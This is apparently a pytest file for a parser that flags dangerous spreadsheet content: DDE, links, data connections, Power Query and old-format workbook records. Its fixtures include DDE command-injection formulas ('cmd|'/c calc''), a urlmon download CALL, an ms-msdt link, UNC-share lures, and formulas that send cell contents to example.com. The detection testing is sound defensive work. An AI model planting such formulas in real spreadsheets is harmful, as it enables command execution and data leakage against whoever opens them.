"""Spreadsheets of every kind: formulas, connections and links that would start, load or send; and what many have."""

from __future__ import annotations

import struct
from base64 import b64encode

import pytest

from parsers.dangers import dangers
from parsers.formats import risks
from parsers.formats.sniff import sniff
from tests.intake.compound import compound
from tests.intake.zips import zipped
from tests.parsers.dangers.test_office import filled, package, related, relation

CALC = "cmd|'/c calc'!A1"


def sheet(formula: str, part: str = "xl/worksheets/sheet1.xml") -> dict[str, bytes]:
    return {part: f'<worksheet><c r="A1"><f>{formula}</f><v>1</v></c></worksheet>'.encode()}


def connection(inner: str) -> dict[str, bytes]:
    return {"xl/connections.xml": f'<connections><connection id="1" name="a">{inner}</connection></connections>'.encode()}


def query(script: str) -> dict[str, bytes]:
    packed = zipped([("Formulas/Section1.m", script.encode())])
    raw = struct.pack("<II", 0, len(packed)) + packed
    return {"customXml/item1.xml": f'<DataMashup xmlns="http://a">{b64encode(raw).decode()}</DataMashup>'.encode()}


TOLD: list[tuple[dict[str, bytes], str]] = [
    (sheet('HYPERLINK("\\\\host\\a","b")'), risks.SHARE), (sheet("HYPERLINK(&quot;file://host/a.xlsx&quot;)"), risks.SHARE),
    (sheet('HYPERLINK("C:\\Windows\\System32\\calc.exe","b")'), risks.LAUNCH),
    (sheet('IF(A1,HYPERLINK("ms-msdt:/id PCW"),0)'), risks.LAUNCH),
    (sheet('HYPERLINK("javascript:a()")'), risks.LAUNCH), (sheet('HYPERLINK("\\\\"&amp;"host"&amp;"\\a")'), risks.SHARE),
    (sheet('HYPERLINK(CHAR(92)&amp;CHAR(92)&amp;"host\\a")'), risks.SHARE), (sheet(CALC), risks.DDE),
    (sheet("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"), risks.DDE),
    (sheet('_xlfn.WEBSERVICE("http://example.com/?"&amp;A1)'), risks.SENDS), (sheet("'\\\\host\\a\\[b.xlsx]c'!A1"),
    risks.SHARE),
    (sheet('_xlfn.IMAGE("\\\\host\\a.png")'), risks.SHARE),
    (sheet('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'), risks.LAUNCH),
    (sheet(CALC, "data/9.xml"), risks.DDE), (sheet(f"</f><f>{CALC}", "xl/worksheets/S.XML"), risks.DDE),
    ({"xl/workbook.xml": b'<workbook><definedName name="a">HYPERLINK("\\\\host\\a")</definedName></workbook>'}, risks.SHARE),
    ({"xl/worksheets/s.xml": f"<x:worksheet><x:f>{CALC}</x:f></x:worksheet>".encode("utf-16")}, risks.DDE),
    (connection('<webPr url="http://example.com/a.htm"/>'), risks.SENDS),
    (connection('<webPr url="\\\\host\\a.xml"/>'), risks.SHARE),
    (connection('<dbPr connection="Provider=SQLOLEDB;Data Source=10.0.0.1;User ID=sa"/>'), risks.SENDS),
    (connection('<dbPr connection="DRIVER={SQL Server};SERVER=db.example.com;UID=a"/>'), risks.SENDS),
    (connection('<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\host\\a.mdb"/>'), risks.SHARE),
    (connection('<textPr sourceFile="\\\\host\\a.txt"/>'), risks.SHARE),
    (query('let a = Web.Contents("http://example.com") in a'), risks.SENDS),
    (query('File.Contents("\\\\host\\a.csv")'), risks.SHARE),
    ({"xl/connections.bin": b"\1" + "https://example.com/a.iqy".encode("utf-16-le")}, risks.SENDS),
    (related(relation("externalLinkPath", "http://example.com/a.xlsx"), part="xl/externalLinks/_rels/l.rels"), risks.LINKED),
    ({"xl/drawings/d1.xml": b"<xdr:sp macro=\"'http://example.com/a.xlsm'!b\"/>"}, risks.MACRO),
]  # fmt: skip
INERT: list[dict[str, bytes]] = [
    sheet('HYPERLINK("https://example.com/?a="&amp;B2,"网址")'), sheet('HYPERLINK("#Sheet2!A1","返回")'),
    sheet('HYPERLINK("mailto:a@example.com")'), sheet('HYPERLINK("附件\\a.docx")'), sheet('HYPERLINK("file:///D:/资料/a.pdf")'),
    sheet('HYPERLINK("[a.xlsx]表!A1","看")'), sheet('HYPERLINK("www.example.com")'), sheet('HYPERLINK("//www.example.com/")'),
    sheet('IF(A1="cmd|\'/c calc\'!A1",1,0)'), sheet("SUM(A1:A9)-B2*10%"), sheet("'D:\\预算\\[a.xlsx]表'!A1"),
    sheet("[1]Sheet1!$A$1"),
    sheet('"见 WEBSERVICE(1)"'), sheet('VLOOKUP(A1,表一!A:B,2,0)&amp;"|"&amp;C1&amp;"!"'),
    sheet('_xlfn.IMAGE("https://example.com/a.png")'),
    sheet('RECALL(A1)'), {"xl/sharedStrings.xml": f"<sst><t>={CALC}</t></sst>".encode()},
    connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=&quot;查询 1&quot;"/>'),
    connection('<dbPr connection="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=D:\\预算\\a.accdb;Mode=Share Deny None"/>'),
    connection('<dbPr connection="Provider=SQLOLEDB;Data Source=.\\SQLEXPRESS;Initial Catalog=a"/>'),
    connection('<dbPr connection="DSN=dBASE Files;DBQ=C:\\A;DefaultDir=C:\\A;Server=localhost"/>'),
    connection('<textPr sourceFile="D:\\数据\\a.csv"/>'),
    connection('<x15:rangePr sourceName="_xlcn.WorksheetConnection_表1"/>'),
    connection('<dbPr connection="Data Model Connection"/><olapPr sendLocale="1"/>'),
    query('let a = Excel.CurrentWorkbook(){[Name="表1"]}[Content] in a'),
    query('Excel.Workbook(File.Contents("D:\\a.xlsx"))'),
    related(relation("externalLinkPath", "https://d.docs.live.net/1/a.xlsx"), part="xl/externalLinks/_rels/l.rels"),
    {"xl/drawings/d1.xml": b'<xdr:sp macro="[0]!a"/><xdr:sp macro=""/>'}, {"xl/printerSettings/p.bin": b"http://host/printer"},
]  # fmt: skip


@pytest.mark.parametrize(("parts", "risk"), TOLD)
def test_what_a_spreadsheet_would_start_load_or_send(parts: dict[str, bytes], risk: str) -> None:
    data = package(dict(parts), "xl")
    assert dangers(data, sniff(data)) == (risk,)


@pytest.mark.parametrize("parts", INERT)
def test_what_many_spreadsheets_have(parts: dict[str, bytes]) -> None:
    data = package(dict(parts), "xl")
    assert dangers(data, sniff(data)) == ()


TABLES: list[tuple[str, str]] = [
    (f"={CALC}", risks.DDE), (f"名称,+{CALC}", risks.DDE), (f"a;-2+3+{CALC}", risks.DDE), (f"@SUM(1+9)*{CALC}", risks.DDE),
    (f'"={CALC}",b', risks.DDE), (f" \t ={CALC}", risks.DDE), (f"a\tb\t=\"{CALC}\"\n".replace('"', ""), risks.DDE),
    (f"＝{CALC}", risks.DDE), ('=DDE("cmd";"/C calc";"a")', risks.DDE), ("=cmd|calc!A0", risks.DDE),
    ("='cmd|/c calc'!A0", risks.DDE),
    ("=rundll32|'URL.dll,OpenURL calc.exe'!A", risks.DDE), ('=HYPERLINK("http://example.com/?a="&A1,"错误")', risks.SENDS),
    ('"=HYPERLINK(""http://example.com/?a=""&A1,""错误"")"', risks.SENDS),
    ('=WEBSERVICE("http://example.com/"&A1)', risks.SENDS),
    ('=IMPORTXML(CONCAT("http://example.com/",A1),"//a")', risks.SENDS),
    ('"=HYPERLINK(""\\\\host\\a"",""b"")"', risks.SHARE),
    ('+HYPERLINK("C:\\a.exe")', risks.LAUNCH), ("张三,1,\n李四,='\\\\host\\a\\[b.xlsx]c'!A1", risks.SHARE),
]  # fmt: skip
PLAIN_TABLES = [
    "-5,+86 731 8888 8888,=1+2,@张三", "+8613800000000", "=SUM(A1:A9)", '=HYPERLINK("https://example.com","网址")',
    "-见附件|说明！其他",
    "-甲|乙!丙", "姓名|职务|电话\n-|-|-", "甲,cmd|'/c calc'!A1", "见 =cmd 命令|用法!", '"=HYPERLINK(""#表2!A1"",""看"")"',
    "a@example.com|b!",
    "http://example.com/a|b!1", "-1|-2|-3!", "=A1&\"|\"&B1", "——=——", "@组长|成员!甲",
]  # fmt: skip


@pytest.mark.parametrize(("text", "risk"), TABLES)
@pytest.mark.parametrize("coding", ["utf-8-sig", "gb18030", "utf-16"])
def test_cells_of_tables_in_text(text: str, risk: str, coding: str) -> None:
    data = f"名称,金额\n{text}\n".encode(coding)
    assert dangers(data, sniff(data), "经费.csv") == dangers(data, sniff(data), "经费.et") == (risk,)
    assert dangers(data, sniff(data), "说明.txt") == ()


@pytest.mark.parametrize("text", PLAIN_TABLES)
def test_cells_that_are_no_formulas_or_inert(text: str) -> None:
    data = f"名称,金额\n{text}\n".encode()
    assert dangers(data, sniff(data), "经费.csv") == ()


def test_a_page_or_xml_that_excel_opens() -> None:
    page = f"<html><table><tr><td>={CALC}</td></tr></table></html>".encode()
    assert (dangers(page, sniff(page), "统计.xls"), dangers(page, sniff(page), "a.html")) == ((risks.DDE,), ())
    plain = b"<html><td>=SUM(A1)</td><td x:fmla='=HYPERLINK(\"https://example.com\")'>+86</td></html>"
    assert dangers(plain, sniff(plain), "统计.xls") == ()
    start = '<?xml version="1.0"?><Workbook xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:'
    cells = ((f'Formula="={CALC}"', risks.DDE), ('HRef="\\\\host\\a"', risks.SHARE), ('HRef="https://example.com"', ""))
    for cell, told in cells:
        data = f"{start}{cell}/></Workbook>".encode()
        assert dangers(data, sniff(data), "a.xml") == ((told,) if told else ())


# --- old workbooks --------------------------------------------------------------------------------------------------------


def book(*records: tuple[int, bytes]) -> bytes:
    start = struct.pack("<HH", 0x809, 16) + bytes(16)
    stream = start + b"".join(struct.pack("<HH", kind, len(content)) + content for kind, content in records)
    return compound({"Workbook": filled(stream + struct.pack("<HH", 0x0A, 0))})


def other_book(path: str, kind: int = 0x1AE) -> tuple[int, bytes]:
    return kind, struct.pack("<HHB", 1, len(path), 1) + path.encode("utf-16-le")


def link(target: str, words: str = "b.exe") -> tuple[int, bytes]:
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", 2 * len(target) + 2)
    shown = struct.pack("<I", len(words) + 1) + (words + "\0").encode("utf-16-le")
    return 0x1B8, bytes(24) + struct.pack("<II", 2, 0x13) + shown + moniker + (target + "\0").encode("utf-16-le")


def formula(words: str) -> tuple[int, bytes]:
    return 0x06, bytes(22) + b"\x17" + bytes([len(words), 0]) + words.encode() + b"\x17\x01\0b\x42\x02\x67\x01"


@pytest.mark.parametrize(("records", "told"), [
    ([other_book("cmd\x03/c calc"), (0x23, bytes(8))], (risks.DDE,)), ([other_book("Word.Document\x03D:\\a.doc"),
    (0x23, b"\x10" + bytes(7))], ()),
    ([other_book("\x01\x01@host\x03a\x03b.xls")], (risks.SHARE,)), ([other_book("\x01\x01D\x03预算\x03b.xls")], ()),
    ([link("\\\\host\\a")], (risks.SHARE,)), ([link("file:///C:\\a.exe")], (risks.LAUNCH,)),
    ([link("https://example.com")], ()),
    ([formula("\\\\host\\a")], (risks.SHARE,)), ([formula("C:\\a.scr")], (risks.LAUNCH,)),
    ([formula("https://example.com")], ()),
    ([(0x876, "https://example.com/a".encode("utf-16-le"))], (risks.SENDS,)), ([(0x876, b"DSN=a;DBQ=C:\\a.mdb")], ()),
    ([(0x1AE, struct.pack("<HH", 1, 0x0401)), (0x23, bytes(8))], ()), ([(0x2F, bytes(6)), formula("\\\\host\\a")], ()),
])  # fmt: skip
def test_records_of_old_workbooks(records: list[tuple[int, bytes]], told: tuple[str, ...]) -> None:
    data = book(*records)
    assert dangers(data, sniff(data), "a.xls") == told
